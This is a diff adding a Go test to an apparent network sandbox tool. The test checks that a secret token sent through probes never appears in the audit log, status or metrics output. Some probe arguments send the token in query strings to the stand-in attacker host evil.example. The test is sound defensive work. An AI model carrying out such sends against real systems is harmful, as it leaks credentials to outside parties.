@@ -570,6 +570,41 @@ func testTampering(t *testing.T) {
 	}
 }
 
+// What a program says, is told and is started with is nobody's to read in a log:
+// bodies, query strings and passwords on command lines do not get there, nor
+// where an operator looks.
+func TestLogHoldsNoSecrets(t *testing.T) {
+	e := newEarth(t)
+	b, _ := e.sandbox(allowed...)
+	const secret = "hunter2"
+	for _, args := range [][]string{
+		{"http", "web.good.example:80", "web.good.example", "/path?token=" + secret},
+		{"http", "evil.example:80", "evil.example", "/path?token=" + secret},
+		{"dial", "echo.good.example:7000", secret},
+		{"dial", "echo.evil.example:7000", secret},
+		{"http", "web.good.example:80", "evil.example", "/path?token=" + secret},
+	} {
+		b.execute(append([]string{"--env", "TOKEN=" + secret, b.id, "/bin/probe"}, args...)...)
+	}
+	ends, refusals := 0, 0
+	b.await("all of it", func(l line) bool {
+		switch l.More.Verdict {
+		case "end":
+			ends++
+		case "refuse":
+			refusals++
+		}
+		return ends == 2 && refusals == 3
+	})
+	log, err := os.ReadFile(b.auditFile())
+	b.must(err)
+	for what, text := range map[string]string{"the audit log": string(log), "log": b.ctl("log", b.id).stdout, "pending": b.ctl("pending", "--json").stdout, "status": b.ctl("status", "--json", b.id).stdout, "metrics": b.ctl("metrics", b.id).stdout} {
+		if text == "" || strings.Contains(text, secret) {
+			t.Errorf("in %s, of %d bytes, stands %.100q", what, len(text), text[max(0, strings.Index(text, secret)-90):])
+		}
+	}
+}
+
 // Law 8: a policy that does not parse changes nothing and is said aloud.
 func TestLaw8BadPolicyChangesNothing(t *testing.T) {
 	e := newEarth(t)
